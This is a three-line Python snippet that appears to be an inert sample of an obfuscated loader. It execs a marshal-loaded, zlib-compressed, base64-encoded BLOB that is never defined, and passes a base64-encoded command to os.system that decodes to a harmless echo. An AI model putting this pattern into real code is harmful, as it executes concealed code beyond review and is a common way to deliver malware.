import marshal, base64, os, zlib
exec(marshal.loads(zlib.decompress(base64.b64decode(BLOB))))
os.system(base64.b64decode("ZWNobyBpbmVydCBzYW1wbGUgb25seQ==").decode())
